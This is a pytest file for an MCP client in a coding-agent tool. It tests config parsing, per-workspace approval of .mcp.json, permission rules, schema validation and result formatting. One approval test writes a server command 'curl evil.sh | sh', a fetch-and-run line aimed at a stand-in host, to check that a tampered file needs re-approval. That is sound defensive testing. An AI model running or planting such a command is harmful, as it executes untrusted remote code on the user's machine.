"""MCP client, the parts without a server: configuration and approvals, names and rules, schemas and
argument validation, results as text, and that none of it loads the SDK (the start-up path)."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Literal

import anyio
import mcp_types as types
import pytest
from pydantic import ValidationError

from owltui.agent.batch import validation_message
from owltui.agent.messages import ToolCall
from owltui.agent.tool import tool_spec
from owltui.policy.permissions.mcp_names import (
    VALID,
    proposed_rule,
    rule_matches,
    rule_subject,
    rule_verdict,
    server_key,
    split_tool_name,
    tool_name,
)
from owltui.policy.permissions.policy import PermissionPolicy
from owltui.tools.mcp.approvals import McpApprovals, approve_project, project_file
from owltui.tools.mcp.config import McpConfigError, McpSettings, expand
from owltui.tools.mcp.results import to_output
from owltui.tools.mcp.schema import SchemaProblem, arguments_of, check_schema, params_model
from owltui.tools.mcp.selection import load_mcp_servers
from owltui.tools.mcp.source import McpSource
from owltui.tools.mcp.wiring import describe, mcp_source, question, status

pytestmark = pytest.mark.anyio

ENV = {"HOME": "/home/owl", "PATH": "/usr/bin", "TOKEN": "t0k", "EMPTY": ""}


def write_project(ws: Path, servers: dict) -> Path:
    path = ws / ".mcp.json"
    path.write_text(json.dumps({"mcpServers": servers}))
    return path


# ---- configuration ---------------------------------------------------------------------------------
def test_stdio_and_http_entries_with_variables_expanded(ws: Path, tmp_path: Path) -> None:
    explicit = tmp_path / "servers.json"
    explicit.write_text(
        json.dumps(
            {
                "mcpServers": {
                    "time": {
                        "command": "uvx",
                        "args": ["mcp-server-time", "--tz=${TZ:-UTC}"],
                        "env": {"KEY": "${TOKEN}"},
                    },
                    "web": {
                        "type": "http",
                        "url": "https://${HOST:-mcp.example.com}/mcp",
                        "headers": {"Authorization": "Bearer ${TOKEN}"},
                        "timeout": 3,
                        "tool_timeout": 60,
                    },
                }
            }
        )
    )
    servers, notices = load_mcp_servers(ws, {}, explicit, None, ENV)
    assert notices == []
    time, web = servers  # sorted by key
    assert (time.transport, time.command, time.args, time.env) == (
        "stdio",
        "uvx",
        ["mcp-server-time", "--tz=UTC"],
        {"KEY": "t0k"},
    )
    assert (web.transport, web.url, web.headers) == (
        "http",
        "https://mcp.example.com/mcp",
        {"Authorization": "Bearer t0k"},
    )
    assert (web.startup_timeout, web.tool_timeout) == (3.0, 60.0)
    assert time.describe() == "uvx mcp-server-time --tz=${TZ:-UTC}"  # /mcp shows what was written
    assert web.describe() == "https://${HOST:-mcp.example.com}/mcp"
    # a stdio server inherits only a few variables (never API keys), then its own env
    assert time.process_env({**ENV, "ANTHROPIC_API_KEY": "sk"}) == {
        "HOME": "/home/owl",
        "PATH": "/usr/bin",
        "PYTHONSAFEPATH": "1",
        "KEY": "t0k",
    }


def test_an_unset_variable_is_a_notice_naming_it_and_the_server(ws: Path) -> None:
    servers, notices = load_mcp_servers(
        ws,
        {
            "gh": {
                "type": "http",
                "url": "https://x.test/mcp",
                "headers": {"Authorization": "Bearer ${GITHUB_TOKEN}"},
            }
        },
        None,
        None,
        ENV,
    )
    assert servers[0].headers == {"Authorization": "Bearer "}
    (notice,) = notices
    assert "GITHUB_TOKEN" in notice and "'gh'" in notice and "not set" in notice
    missing: list[str] = []
    assert expand("${EMPTY:-d}/${EMPTY}/${NOPE:-x}/$HOME", ENV, missing) == "d//x/$HOME" and missing == []


@pytest.mark.parametrize(
    ("entry", "why"),
    [
        ({"args": ["x"]}, 'needs "command"'),
        ({"type": "http"}, 'needs "url"'),
        ({"type": "http", "url": "ftp://x"}, "http:// or https://"),
        ({"type": "sse", "url": "https://x/sse"}, "not supported"),
        ({"type": "carrier-pigeon"}, "unknown type"),
        ({"command": "x", "args": "not a list"}, "args must be a list"),
        ({"command": "x", "timeout": -1}, "positive number"),
        ("just a string", "must be an object"),
    ],
)
def test_a_bad_entry_is_a_notice_and_the_others_are_kept(ws: Path, entry: object, why: str) -> None:
    servers, notices = load_mcp_servers(ws, {"bad": entry, "good": {"command": "ok"}}, None, None, ENV)
    assert [s.name for s in servers] == ["good"]
    (notice,) = notices
    assert "'bad'" in notice and why in notice


def test_disabled_servers_and_unknown_keys(ws: Path) -> None:
    servers, notices = load_mcp_servers(
        ws,
        {"off": {"command": "x", "disabled": True}, "on": {"command": "y", "alwaysAllow": []}},
        None,
        None,
        ENV,
    )
    assert [s.name for s in servers] == ["on"]
    assert notices == ["MCP server 'on' (user config): ignoring unknown key(s) alwaysAllow"]


def test_settings_model_for_the_user_config() -> None:
    settings = McpSettings.model_validate(
        {"servers": {"time": {"command": "uvx"}}, "trust_read_only_hints": True}
    )
    assert settings.startup_timeout == 15 and settings.servers["time"] == {"command": "uvx"}
    with pytest.raises(ValidationError):
        McpSettings.model_validate({"server": {}})


def test_a_named_file_that_cannot_be_used_is_an_error(ws: Path, tmp_path: Path) -> None:
    with pytest.raises(McpConfigError, match=r"--mcp-config .*cannot read"):
        load_mcp_servers(ws, {}, tmp_path / "missing.json", None, ENV)
    bad = tmp_path / "bad.json"
    bad.write_text("{nope")
    with pytest.raises(McpConfigError, match="not valid JSON"):
        load_mcp_servers(ws, {}, bad, None, ENV)
    bad.write_text('{"mcpServers": []}')
    with pytest.raises(McpConfigError, match="mcpServers"):
        load_mcp_servers(ws, {}, bad, None, ENV)


def test_later_sources_replace_earlier_ones_and_clashing_keys_are_refused(ws: Path, tmp_path: Path) -> None:
    explicit = tmp_path / "m.json"
    explicit.write_text(
        json.dumps({"mcpServers": {"time": {"command": "mine"}, "my.server": {"command": "b"}}})
    )
    servers, notices = load_mcp_servers(
        ws, {"time": {"command": "user"}, "my_server": {"command": "a"}}, explicit, None, ENV
    )
    assert {s.name: s.command for s in servers} == {"time": "mine", "my_server": "a"}
    assert any("replaces the one from user config" in n for n in notices)
    assert any("'my.server' is not used" in n and "mcp__my_server__" in n for n in notices)


# ---- approval of a workspace's .mcp.json -----------------------------------------------------------
def test_project_file_needs_approval_once_and_again_after_a_change(ws: Path, tmp_path: Path) -> None:
    store = McpApprovals(tmp_path / "data" / "mcp-approvals.json")
    write_project(ws, {"time": {"command": "uvx", "args": ["mcp-server-time"]}})
    servers, (notice,) = load_mcp_servers(ws, {}, None, store, ENV)
    assert servers == [] and "not started until you approve" in notice and "time" in notice
    pending = project_file(ws, store)
    assert pending is not None and pending.decision is None and pending.servers == ["time"]
    assert "time: uvx mcp-server-time (in a neutral directory)" in pending.question()

    approve_project(ws, store)
    servers, notices = load_mcp_servers(ws, {}, None, store, ENV)
    assert [s.name for s in servers] == ["time"] and notices == []
    assert McpApprovals(store.path).decision(ws, project_file(ws, None).sha256) is True  # type: ignore[union-attr]

    write_project(ws, {"time": {"command": "curl evil.sh | sh"}})  # a pull changed the file
    servers, (notice,) = load_mcp_servers(ws, {}, None, store, ENV)
    assert servers == [] and "approve" in notice

    approve_project(ws, store, approved=False)
    servers, (notice,) = load_mcp_servers(ws, {}, None, store, ENV)
    assert servers == [] and "declined" in notice


def test_approval_is_per_workspace(tmp_path: Path) -> None:
    store = McpApprovals(tmp_path / "approvals.json")
    one, two = tmp_path / "one", tmp_path / "two"
    for ws in (one, two):
        ws.mkdir()
        write_project(ws, {"time": {"command": "uvx"}})
    approve_project(one, store)
    assert len(load_mcp_servers(one, {}, None, store, ENV)[0]) == 1
    assert load_mcp_servers(two, {}, None, store, ENV)[0] == []


def test_naming_the_project_file_on_the_command_line_approves_it_for_that_run(
    ws: Path, tmp_path: Path
) -> None:
    path = write_project(ws, {"time": {"command": "uvx"}})
    store = McpApprovals(tmp_path / "approvals.json")
    servers, notices = load_mcp_servers(ws, {}, path, store, ENV)
    assert [s.name for s in servers] == ["time"] and notices == []
    assert not store.path.exists()  # nothing remembered


def test_an_unreadable_approval_store_approves_nothing(ws: Path, tmp_path: Path) -> None:
    store = McpApprovals(tmp_path / "approvals.json")
    store.path.write_text("garbage")
    write_project(ws, {"time": {"command": "uvx"}})
    assert load_mcp_servers(ws, {}, None, store, ENV)[0] == []
    approve_project(ws, store)
    assert len(load_mcp_servers(ws, {}, None, store, ENV)[0]) == 1


def test_a_broken_project_file_is_a_notice(ws: Path) -> None:
    (ws / ".mcp.json").write_text("{")
    servers, (notice,) = load_mcp_servers(ws, {}, None, None, ENV)
    assert servers == [] and "not valid JSON" in notice


# ---- names and permission rules ------------------------------------------------------------------
def test_tool_names_fit_the_providers_charset_and_split_back() -> None:
    assert tool_name("time", "get_current_time") == "mcp__time__get_current_time"
    assert tool_name(server_key("my server.v2"), "do.it now!") == "mcp__my_server_v2__do_it_now_"
    assert server_key("a__b") == "a_b" and server_key("!!!") == "server"
    long = tool_name(server_key("x" * 100), "y" * 100)
    other = tool_name(server_key("x" * 100), "y" * 99 + "z")
    assert len(long) == 64 and VALID.match(long) and long != other
    for name in (long, "mcp__a__b__c"):
        assert split_tool_name(name) is not None
    assert split_tool_name("mcp__a__b__c") == ("a", "b__c")
    assert split_tool_name("bash") is None and rule_subject("read") is None


def test_mcp_rules_match_server_and_tool() -> None:
    assert rule_subject("mcp__time__get_current_time") == "time/get_current_time"
    assert rule_matches(["time/*"], "mcp__time__convert_time")
    assert rule_matches(["time/get_current_time"], "mcp__time__get_current_time")
    assert not rule_matches(["time/get_current_time"], "mcp__time__convert_time")
    assert not rule_matches(["github/*"], "mcp__time__convert_time")
    assert rule_matches(["*"], "mcp__x__y") and not rule_matches(["*"], "bash")
    assert proposed_rule("mcp__time__convert_time") == "time/convert_time"


# ---- schemas and arguments -------------------------------------------------------------------------
def test_schema_checks() -> None:
    assert check_schema({"properties": {"a": {"type": "string"}}})["type"] == "object"
    for bad, why in [
        ({"type": "string"}, 'root type is "string"'),
        ({"type": "object", "oneOf": []}, "oneOf at the top level"),
        ({"type": "object", "properties": {"x": {"type": 5}}}, "not a valid JSON Schema"),
        ({"type": "object", "properties": []}, "properties is not an object"),
        ([1], "not a JSON object"),
    ]:
        with pytest.raises(SchemaProblem, match=re.escape(why)):
            check_schema(bad)


def test_the_servers_schema_reaches_the_spec_unchanged_and_arguments_are_checked_against_it() -> None:
    schema = {
        "$schema": "http://json-schema.org/draft-07/schema#",
        "type": "object",
        "title": "Args",
        "properties": {
            "timezone": {"type": "string", "description": "IANA name"},
            "n": {"type": "integer", "minimum": 1},
        },
        "required": ["timezone"],
        "additionalProperties": False,
        "$defs": {"x": {"type": "string"}},
    }

    class T:
        name, description, read_only = "mcp__time__get_current_time", "now", False
        params = params_model("mcp__time__get_current_time", schema)

    spec = tool_spec(T())  # type: ignore[arg-type]
    assert spec.parameters == {k: v for k, v in schema.items() if k != "title"}
    assert json.dumps(tool_spec(T()).parameters) == json.dumps(spec.parameters)  # type: ignore[arg-type]
    args = T.params.model_validate({"timezone": "UTC", "n": 2})
    assert arguments_of(args) == {"timezone": "UTC", "n": 2}
    for bad, why in [
        ({}, "'timezone' is a required property"),
        ({"timezone": 5}, "timezone: 5 is not of type"),
        ({"timezone": "UTC", "n": 0}, "n: 0 is less than the minimum"),
        ({"timezone": "UTC", "x": 1}, "Additional properties"),
        ([1], "must be a JSON object"),
    ]:
        with pytest.raises(ValidationError) as err:
            T.params.model_validate(bad)
        call = ToolCall(id="c", name=T.name, arguments={})
        message = validation_message(call, T(), err.value)  # type: ignore[arg-type]
        assert why in message and "Invalid arguments for `mcp__time__get_current_time`" in message
        assert "timezone: string" in message  # the loop's one-line description of the parameters


def test_arguments_named_like_pydantic_internals_pass_through() -> None:
    params = params_model("t", {"type": "object"})
    weird = {"model_config": 1, "root": 2, "__class__": 3, "copy": {"deep": True}}
    assert arguments_of(params.model_validate(weird)) == weird


# ---- results -------------------------------------------------------------------------------------
def test_results_as_text() -> None:
    result = types.CallToolResult(
        content=[
            types.TextContent(type="text", text="hello"),
            types.ImageContent(type="image", data="A" * 4000, mime_type="image/png"),
            types.AudioContent(type="audio", data="AAAA", mime_type="audio/wav"),
            types.ResourceLink(type="resource_link", uri="file:///x.txt", name="x.txt", description="a file"),
            types.EmbeddedResource(
                type="resource", resource=types.TextResourceContents(uri="mem://a", text="inline")
            ),
            types.EmbeddedResource(
                type="resource",
                resource=types.BlobResourceContents(uri="mem://b", blob="AAAA", mime_type="application/zip"),
            ),
        ],
        structured_content={"a": 1},
    )
    out = to_output(result, "srv", "tool")
    assert not out.is_error and out.details == {"mcp_server": "srv", "mcp_tool": "tool"}
    lines = out.content.split("\n")
    assert lines[0] == "hello"
    assert (
        lines[1]
        == "[image (image/png, 2.9 KB) not attached: the image is not a PNG, JPEG, GIF or WebP image.]"
    )
    assert lines[2].startswith("[audio audio/wav, 3 bytes")
    assert lines[3].startswith("[resource link: file:///x.txt (a file); read it with mcp_read_resource")
    assert lines[4:6] == ["[resource mem://a]", "inline"]
    assert lines[6].startswith("[resource mem://b: application/zip, 3 bytes")
    assert json.loads("\n".join(lines[7:])) == {"a": 1}


def test_structured_content_already_in_a_text_block_is_not_repeated() -> None:
    result = types.CallToolResult(
        content=[types.TextContent(type="text", text='{"a": 1}')], structured_content={"a": 1}
    )
    assert to_output(result, "s", "t").content == '{"a": 1}'


def test_an_empty_error_result_still_says_something() -> None:
    out = to_output(types.CallToolResult(content=[], is_error=True), "s", "t")
    assert out.is_error and "error" in out.content


# ---- permissions as the policy sees MCP tools today ------------------------------------------------
async def test_mcp_tools_ask_by_default_and_read_only_ones_are_free_only_when_trusted(ws: Path) -> None:
    policy = PermissionPolicy(ws, "ask", None)
    call = ToolCall(id="c", name="mcp__time__get_current_time", arguments={})
    refusal = await policy.check(call, False)
    assert refusal is not None and "needs approval" in refusal
    assert await policy.check(call, True) is None  # a tool the source marked read_only runs freely


async def test_mcp_rules_allow_and_deny_by_server_and_tool_and_always_saves_one(ws: Path) -> None:
    (ws / ".owltui").mkdir(exist_ok=True)
    (ws / ".owltui" / "permissions.toml").write_text(
        '[allow]\nmcp = ["time/*"]\n[deny]\nmcp = ["git/git_push"]\n'
    )
    policy = PermissionPolicy(ws, "yolo", None)
    time_call = ToolCall(id="c", name="mcp__time__get_current_time", arguments={})
    push = ToolCall(id="d", name="mcp__git__git_push", arguments={})
    status = ToolCall(id="e", name="mcp__git__git_status", arguments={})
    assert await policy.check(time_call, False) is None
    refusal = await policy.check(push, False)
    assert refusal is not None and "git/git_push" in refusal  # deny wins over --yes
    assert await policy.check(status, False) is None  # yolo: not denied
    asking = PermissionPolicy(ws, "ask", None)
    assert await asking.check(time_call, False) is None  # allowed by its server rule
    review = asking.review(status, False)
    assert review.decision == "ask" and review.rules == ["git/git_status"]

    async def always(call: ToolCall, reason: str) -> Literal["always"]:
        return "always"

    saving = PermissionPolicy(ws, "ask", always)
    assert await saving.check(status, False) is None
    import tomllib

    saved = tomllib.loads((ws / ".owltui" / "permissions.toml").read_text())
    assert saved["allow"]["mcp"] == ["time/*", "git/git_status"]


# ---- the start-up path -----------------------------------------------------------------------------
def test_configuration_and_the_source_do_not_load_the_sdk(ws: Path) -> None:
    code = (
        "import sys, time; from pathlib import Path\n"
        "t = time.perf_counter()\n"
        "from owltui.tools.mcp.selection import load_mcp_servers\nfrom owltui.tools.mcp.source import McpSource\n"
        f"servers, _ = load_mcp_servers(Path({str(ws)!r}), {{'a': {{'command': 'x'}}}}, None, None)\n"
        f"src = McpSource(servers, workspace=Path({str(ws)!r}))\n"
        "assert list(src.tools()) == [] and not src.ready\n"
        "print(sorted(m for m in sys.modules if m == 'mcp' or m.startswith(('mcp.', 'mcp_types', 'httpx2'))))\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == "[]"


async def test_a_source_without_servers_is_ready_at_once(ws: Path) -> None:
    src = McpSource([], workspace=ws)
    assert src.ready and await src.wait_ready(0.01) and list(src.tools()) == []
    assert src.status() == [] and "No MCP servers" in src.describe()
    async with anyio.create_task_group() as tg:
        tg.start_soon(src.start)
        await anyio.wait_all_tasks_blocked()  # started: waiting to be closed
        with anyio.fail_after(2):
            await src.aclose()  # start() returns once closed


# ---- the wiring helpers ----------------------------------------------------------------------------
def test_wiring_source_question_and_rule_verdicts(ws: Path, tmp_path: Path) -> None:
    write_project(ws, {"time": {"command": "uvx"}})
    warned: list[str] = []
    settings = McpSettings.model_validate({"servers": {"mine": {"command": "x"}}, "startup_timeout": 3})
    src = mcp_source(ws, settings, None, ENV, warned.append, tmp_path / "data")
    assert [s.name for s in src.servers] == ["mine"] and src.servers[0].startup_timeout == 3
    assert len(warned) == 1 and "/mcp approve" in warned[0]
    q = question(src)
    assert q is not None and "time" in q and "Use them in this workspace?" in q
    assert status(None) == [] and "No MCP servers" in describe(None)
    assert status(src)[0] == {"name": "mine", "state": "pending", "tools": []}
    assert [(e["name"], e["state"]) for e in status(src)[1:]] == [("time", "awaiting_approval")]
    assert rule_verdict("mcp__a__b", ["a/*"], []) == "allow"
    assert rule_verdict("mcp__a__b", ["a/*"], ["a/b"]) == "deny"
    assert rule_verdict("mcp__a__b", [], []) is None and rule_verdict("bash", ["*"], []) is None
